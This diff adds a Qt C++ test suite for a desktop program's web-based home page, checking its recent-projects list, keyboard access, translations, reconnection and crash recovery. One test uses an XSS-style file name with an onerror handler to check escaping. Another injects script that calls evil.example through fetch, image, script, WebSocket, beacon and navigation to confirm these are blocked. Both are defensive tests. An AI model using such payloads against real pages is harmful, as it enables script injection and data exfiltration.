@@ -1,0 +1,405 @@
+// SPDX-License-Identifier: MIT
+// The home page in the real browser engine, with the real main window behind it.
+#include <support/coretest.h>
+
+#include <actionmanager/actionmanager.h>
+#include <actionmanager/contextaction.h>
+#include <appearance/ilanguagemanager.h>
+#include <icore.h>
+#include <irecentfilesmanager.h>
+#include <mainwindow.h>
+#include <recentlist.h>
+#include <ui/imainmdiarea.h>
+#include <ui/webview.h>
+#include <welcomepage.h>
+#include <welcomewidget.h>
+
+#include <QDesktopServices>
+#include <QListWidget>
+#include <QTcpSocket>
+#include <QTranslator>
+#include <QWebEnginePage>
+#include <QWebEngineView>
+#include <QWebSocketServer>
+
+#include <csignal>
+
+namespace {
+
+const QString s_unicode = QStringLiteral("Über 海藻 Ламинария");
+const QString s_hostile = QStringLiteral("<img src=x onerror=document.title='broken'> %1 & \"'");
+
+/// A language in which every text of the page stands in brackets.
+class Brackets : public QTranslator
+{
+public:
+    Brackets() { QCoreApplication::installTranslator(this); }
+    [[nodiscard]] bool isEmpty() const override { return false; }
+    [[nodiscard]] QString translate(
+        const char *pContext, const char *pSource, const char *, int) const override
+    {
+        return qstrcmp(pContext, "WelcomePage") == 0 ? '[' + QString::fromLatin1(pSource) + ']' : QString();
+    }
+};
+
+class Desktop : public QObject
+{
+    Q_OBJECT
+
+public:
+    Desktop()
+    {
+        for (const char *pScheme : {"http", "https", "file"})
+            QDesktopServices::setUrlHandler(pScheme, this, "open");
+    }
+    ~Desktop() override
+    {
+        for (const char *pScheme : {"http", "https", "file"})
+            QDesktopServices::unsetUrlHandler(pScheme);
+    }
+    Q_INVOKABLE void open(const QUrl &url) { opened.append(url.toString()); }
+
+    QStringList opened;
+};
+
+} // namespace
+
+class tst_WelcomePage : public QObject
+{
+    Q_OBJECT
+
+private slots:
+    void initTestCase()
+    {
+        const QString strExamples = ICore::resourcePath() + "/examples";
+        QDir().mkpath(strExamples);
+        for (const char *pName : {"/landscape.kelpa", "/card.kelpa"}) {
+            QFile::remove(strExamples + pName);
+            QVERIFY(QFile::copy(KELPA_EXAMPLES + QString(pName), strExamples + pName));
+        }
+        const TestProgram program;
+        ExtensionSystem::PluginManager::settings()->setValue("Kelpa/Language", "de_DE");
+        ILanguageManager::getInstance().initialize();
+        ILanguageManager::getInstance().setSettings(nullptr);
+    }
+
+    void init()
+    {
+        m_pProgram = std::make_unique<TestProgram>();
+        m_pWindow = std::make_unique<MainWindow>(nullptr);
+        m_pFactory = std::make_unique<FakeFactory>();
+        m_pDesktop = std::make_unique<Desktop>();
+        for (const char *pName : {"/p/c.kelpa", "/gone/b.kelpa"})
+            IRecentFilesManager::getInstance()->addFile(pName);
+        m_strFirst = m_pProgram->write("a b.kelpa");
+        IRecentFilesManager::getInstance()->addFile(m_strFirst);
+        m_pWidget = new WelcomeWidget(m_pWindow->getMdiArea());
+        m_pWindow->setWelcomeWidget(m_pWidget);
+        m_pWindow->resize(1100, 800);
+        m_pWindow->show();
+        m_pWindow->activateWindow();
+        m_pWindow->setVisibleWelcomeWidget(true);
+        QTRY_VERIFY_WITH_TIMEOUT(view() && view()->title() == WelcomePage::title(), 60000);
+    }
+
+    void cleanup()
+    {
+        for (const auto &pDocument : std::as_const(m_pFactory->documents))
+            delete pDocument;
+        for (const auto &pEditor : std::as_const(m_pFactory->editors))
+            delete pEditor;
+        delete m_pFactory->pDialog;
+        m_pWindow.reset();
+        m_pFactory.reset();
+        m_pDesktop.reset();
+        m_pProgram.reset();
+    }
+
+    void listOfThePageMenuAndSettingsAgree()
+    {
+        QCOMPARE(names(), QStringList({"a b", "b", "c"}));
+        QCOMPARE(js("document.querySelector('#recent li:nth-child(2) span').textContent"), "/gone");
+        click("#recent li:nth-child(2) .small:last-child");
+        QTRY_COMPARE(names(), QStringList({"a b", "c"}));
+        QCOMPARE(recent(), QStringList({m_strFirst, "/p/c.kelpa"}));
+        QCOMPARE(
+            ActionManager::getAction("File.Recent_Projects.Project_2")->getAction()->text(), "2. /p/c.kelpa");
+        QCOMPARE(js("document.getElementById('status').textContent"), "b was removed from the list.");
+    }
+
+    void namesAreTextWhateverIsInThem()
+    {
+        for (const QString &strName : {s_hostile, s_unicode})
+            IRecentFilesManager::getInstance()->addFile("/x/" + strName + ".kelpa");
+        IRecentFilesManager::getInstance()->addFile("C:\\Projects\\w.KELPAPACK");
+        m_pWindow->setVisibleWelcomeWidget(true);
+        QTRY_COMPARE(names(), QStringList({"w", s_unicode, s_hostile, "a b", "b", "c"}));
+        QCOMPARE(js("document.querySelectorAll('#recent img').length").toInt(), 0);
+        click("#recent li:nth-child(3) .small:last-child");
+        QTRY_COMPARE(names(), QStringList({"w", s_unicode, "a b", "b", "c"}));
+        QCOMPARE(js("document.getElementById('status').textContent").toString(),
+            s_hostile + " was removed from the list.");
+        QCOMPARE(view()->title(), WelcomePage::title());
+    }
+
+    void projectOpensAndThePageComesBackUpToDate()
+    {
+        click("#recent li:first-child .open");
+        QTRY_COMPARE(m_pFactory->documents.size(), 1);
+        QCOMPARE(m_pFactory->documents.first()->getFileName(), m_strFirst);
+        QVERIFY(m_pWidget->isHidden());
+        IRecentFilesManager::getInstance()->addFile("/p/later.kelpa");
+        emit m_pFactory->documents.first()->requestClosing(false);
+        QVERIFY(!m_pWidget->isHidden());
+        QTRY_COMPARE(names(), QStringList({"later", "a b", "b", "c"}));
+    }
+
+    void exampleOpens()
+    {
+        QCOMPARE(js("document.querySelectorAll('#examples li').length").toInt(), 2);
+        QTRY_VERIFY(js("[...document.images].every(i => i.complete && i.naturalWidth > 0)").toBool());
+        click("#examples li:first-child button");
+        QTRY_COMPARE(m_pFactory->documents.size(), 1);
+        QCOMPARE(m_pFactory->documents.first()->getFileName(),
+            ICore::resourcePath() + "/examples/landscape.kelpa");
+    }
+
+    void missingProjectMayLeaveTheList()
+    {
+        BoxAnswers boxes({QMessageBox::Yes});
+        click("#recent li:nth-child(2) .small");
+        QTRY_COMPARE(names(), QStringList({"a b", "c"}));
+        QCOMPARE(boxes.boxes.size(), 1);
+        click("#recent li:first-child .small");
+        QTRY_COMPARE(m_pDesktop->opened, QStringList("file:///" + m_pProgram->folder.path()));
+    }
+
+    void linksGoToTheBrowser()
+    {
+        QTRY_COMPARE(js("document.querySelectorAll('nav a').length").toInt(), 5);
+        click("nav a:nth-child(2)");
+        QTRY_COMPARE(m_pDesktop->opened, QStringList("https://community.kelpa.example/"));
+        QCOMPARE(view()->url(), WelcomePage::url());
+    }
+
+    // Tab and Return alone, from the window to a new project.
+    void keyboardReachesEverything()
+    {
+        QTRY_VERIFY(QApplication::focusWidget() && view()->isAncestorOf(QApplication::focusWidget()));
+        const int nStops = js("document.querySelectorAll('button, a').length").toInt();
+        QSet<int> seen;
+        for (int i = 0; i < nStops; ++i) {
+            press(Qt::Key_Tab);
+            QTRY_VERIFY2(!seen.contains(focused()) && focused() >= 0, qPrintable(QString::number(i)));
+            seen.insert(focused());
+        }
+        js("document.querySelector('[data-command=newProject]').focus()");
+        m_pFactory->nDialogResult = QDialog::Accepted;
+        m_pFactory->strNewPath = m_pProgram->filePath("new.kelpa");
+        press(Qt::Key_Return);
+        QTRY_COMPARE(m_pFactory->documents.size(), 1);
+        QCOMPARE(m_pFactory->documents.first()->getFileName(), m_pFactory->strNewPath);
+    }
+
+    void keysInTheList()
+    {
+        QTRY_VERIFY(QApplication::focusWidget() && view()->isAncestorOf(QApplication::focusWidget()));
+        js("document.querySelector('#recent .open').focus()");
+        const QString strFocused = "document.activeElement.title";
+        press(Qt::Key_Down);
+        QTRY_COMPARE(js(strFocused), "/gone/b.kelpa");
+        press(Qt::Key_Delete);
+        QTRY_COMPARE(names(), QStringList({"a b", "c"}));
+        QCOMPARE(js(strFocused), "/p/c.kelpa");
+        press(Qt::Key_Delete);
+        QTRY_COMPARE(js(strFocused), m_strFirst);
+        press(Qt::Key_Delete);
+        QTRY_COMPARE(names(), QStringList());
+        QCOMPARE(js("document.activeElement.dataset.command"), "newProject");
+        QVERIFY(js("document.getElementById('no-recent').checkVisibility?.() ?? "
+                   "!document.getElementById('no-recent').hidden")
+                    .toBool());
+    }
+
+    void everyControlHasANameAndEveryPartARole()
+    {
+        QCOMPARE(js("[...document.querySelectorAll('button, a')].filter(e => !(e.ariaLabel || "
+                    "e.textContent).trim()).length")
+                     .toInt(),
+            0);
+        QCOMPARE(js("[...document.querySelectorAll('section, nav, ul')].filter(e => !e.ariaLabel && "
+                    "!document.getElementById(e.getAttribute('aria-labelledby'))?.textContent).length")
+                     .toInt(),
+            0);
+        QCOMPARE(js("[...document.querySelectorAll('h1, main, header, footer, [role=status]')]"
+                    ".map(e => e.localName).join()"),
+            "header,h1,p,main,footer");
+        QVERIFY(js("document.querySelector('.small').ariaLabel").toString().contains("a b"));
+    }
+
+    void pageSpeaksTheLanguageOfTheProgram()
+    {
+        QTRY_COMPARE(js("document.documentElement.lang"), "de-DE");
+        QTRY_COMPARE(js("document.getElementById('version').textContent"), "Version 3.1.4");
+        const Brackets brackets;
+        QEvent change(QEvent::LanguageChange);
+        QCoreApplication::sendEvent(m_pWidget, &change);
+        const QString strTexts =
+            "[...document.querySelectorAll('h2, p, nav a, .action > span, .example > *')]"
+            ".map(e => e.textContent).filter(t => t && !/^\\[.*\\]$/.test(t)).join()";
+        QTRY_COMPARE(js("document.querySelector('h2').textContent"), "[Recent Projects]");
+        QTRY_COMPARE(js(strTexts), "");
+        QVERIFY(
+            js("[...document.querySelectorAll('[aria-label]')].every(e => /^\\[.*\\]$/.test(e.ariaLabel))")
+                .toBool());
+    }
+
+    void pageFollowsColoursAndScale()
+    {
+        QPalette palette = m_pWidget->palette();
+        palette.setColor(QPalette::Window, QColor("#102030"));
+        palette.setColor(QPalette::WindowText, QColor("#f0f0f0"));
+        m_pWidget->setPalette(palette);
+        QTRY_COMPARE(js("getComputedStyle(document.body).backgroundColor"), "rgb(16, 32, 48)");
+        QCOMPARE(js("getComputedStyle(document.body).color"), "rgb(240, 240, 240)");
+        QCOMPARE(view()->zoomFactor(), 1.0);
+    }
+
+    void nothingLeavesTheMachine()
+    {
+        auto *pWebView = m_pWidget->findChild<WebView *>();
+        QSignalSpy requests(pWebView, &WebView::requested);
+        view()->reload();
+        const QString strServer = WelcomePage::data(*m_pWidget).value("server").toString();
+        QTRY_VERIFY(allowed(requests).contains(strServer));
+        QTRY_COMPARE(names(), QStringList({"a b", "b", "c"}));
+        js("fetch('https://evil.example/fetch').catch(() => 0);"
+           "new Image().src = 'http://evil.example/image';"
+           "document.body.append(Object.assign(document.createElement('script'), {src: "
+           "'https://evil.example/script'}));"
+           "try { new WebSocket('ws://evil.example/') } catch (e) {}"
+           "navigator.sendBeacon('https://evil.example/beacon', 'x');"
+           "location = 'https://evil.example/go'; 0");
+        const auto isRefused = [&] {
+            return requests.contains(QVariantList {QUrl("https://evil.example/go"), false})
+                || view()->url() == WelcomePage::url();
+        };
+        QTRY_VERIFY(isRefused());
+        QCOMPARE(names().size(), 3);
+        const QStringList urls = allowed(requests);
+        for (const QString &strUrl : urls)
+            QVERIFY2(
+                strUrl.startsWith("qrc:///") || strUrl.startsWith("ws://127.0.0.1:"), qPrintable(strUrl));
+        QCOMPARE(view()->url(), WelcomePage::url());
+    }
+
+    void pageFindsTheProgramAgain()
+    {
+        js("window.seen = []; new MutationObserver(() => window.seen.push("
+           "document.getElementById('status').textContent)).observe(document.getElementById('status'), "
+           "{childList: true})");
+        IRecentFilesManager::getInstance()->addFile("/p/meanwhile.kelpa");
+        for (QTcpSocket *pSocket : m_pWindow->getServer()->findChildren<QTcpSocket *>())
+            pSocket->abort();
+        QTRY_COMPARE(names(), QStringList({"meanwhile", "a b", "b", "c"}));
+        QCOMPARE(js("window.seen.join(' ')"),
+            "The page has lost the program and is trying to reach it again. "
+            "The page has reached the program again.");
+        QCOMPARE(js("document.querySelector('.action').getAttribute('aria-disabled')"), "false");
+    }
+
+    void lostPageSaysSoAndWaitsLongerEachTime()
+    {
+        js("window.starts = []; const Real = WebSocket; WebSocket = function(url) { "
+           "window.starts.push(performance.now()); return new Real(url); }");
+        m_pWindow->getServer()->close();
+        for (QTcpSocket *pSocket : m_pWindow->getServer()->findChildren<QTcpSocket *>())
+            pSocket->abort();
+        QTRY_COMPARE(js("document.querySelector('.action').getAttribute('aria-disabled')"), "true");
+        click("[data-command=newProject]");
+        QTRY_VERIFY(js("window.starts.length").toInt() >= 3);
+        QVERIFY(js("starts[2] - starts[1] > 1.5 * (starts[1] - starts[0])").toBool()
+            || js("starts[2] - starts[1] >= 450").toBool());
+        QVERIFY(m_pFactory->documents.isEmpty());
+        QVERIFY(js("document.getElementById('status').textContent").toString().contains("lost"));
+    }
+
+    void pageThatDiesIsLoadedOnceMoreThenListedWithout()
+    {
+        QTest::ignoreMessage(QtWarningMsg, "The home page failed and is loaded again.");
+        killPage();
+        QSignalSpy titles(m_pWidget->findChild<WebView *>(), &WebView::titleChanged);
+        QTRY_VERIFY_WITH_TIMEOUT(titles.contains(QVariantList {WelcomePage::title()}), 30000);
+        QTRY_COMPARE(names(), QStringList({"a b", "b", "c"}));
+        QTest::ignoreMessage(
+            QtWarningMsg, "The home page failed again; the recent projects are listed without it.");
+        killPage();
+        QTRY_VERIFY(m_pWidget->findChild<RecentList *>());
+        QVERIFY(!view());
+        QCOMPARE(m_pWidget->findChild<QListWidget *>()->count(), 3);
+    }
+
+private:
+    [[nodiscard]] QWebEngineView *view() const { return m_pWidget->findChild<QWebEngineView *>(); }
+
+    QVariant js(const QString &strCode) const
+    {
+        const auto result = std::make_shared<std::optional<QVariant>>();
+        view()->page()->runJavaScript(strCode, [result](const QVariant &value) { *result = value; });
+        return QTest::qWaitFor([&] { return result->has_value(); }) ? **result : QVariant("no answer");
+    }
+
+    [[nodiscard]] QStringList names() const
+    {
+        return js("[...document.querySelectorAll('#recent strong')].map(e => e.textContent)").toStringList();
+    }
+
+    void click(const char *pSelector) const
+    {
+        js(QStringLiteral("document.querySelector('%1').click()").arg(QLatin1String(pSelector)));
+    }
+
+    static void press(Qt::Key key) { QTest::keyClick(QApplication::focusWidget(), key); }
+
+    [[nodiscard]] int focused() const
+    {
+        return js("[...document.querySelectorAll('button, a')].indexOf(document.activeElement)").toInt();
+    }
+
+    void killPage() const
+    {
+        QSignalSpy dead(view()->page(), &QWebEnginePage::renderProcessTerminated);
+        ::kill(static_cast<pid_t>(view()->page()->renderProcessPid()), SIGKILL);
+        QVERIFY(dead.wait(20000));
+    }
+
+    static QStringList allowed(const QSignalSpy &requests)
+    {
+        QStringList urls;
+        for (const QVariantList &request : requests) {
+            if (request.at(1).toBool())
+                urls.append(request.at(0).toUrl().toString());
+        }
+        return urls;
+    }
+
+    static QStringList recent() { return IRecentFilesManager::getInstance()->getRecentFiles(); }
+
+    std::unique_ptr<TestProgram> m_pProgram;
+    std::unique_ptr<MainWindow> m_pWindow;
+    std::unique_ptr<FakeFactory> m_pFactory;
+    std::unique_ptr<Desktop> m_pDesktop;
+    QPointer<WelcomeWidget> m_pWidget;
+    QString m_strFirst;
+};
+
+int main(int argc, char *argv[])
+{
+    qputenv("QTWEBENGINE_CHROMIUM_FLAGS", "--disable-gpu");
+    const QApplication app(argc, argv);
+    QCoreApplication::addLibraryPath(QStringLiteral(KELPA_PROGRAM_DIR));
+    tst_WelcomePage test;
+    return QTest::qExec(&test, argc, argv);
+}
+
+#include "tst_welcomepage.moc"
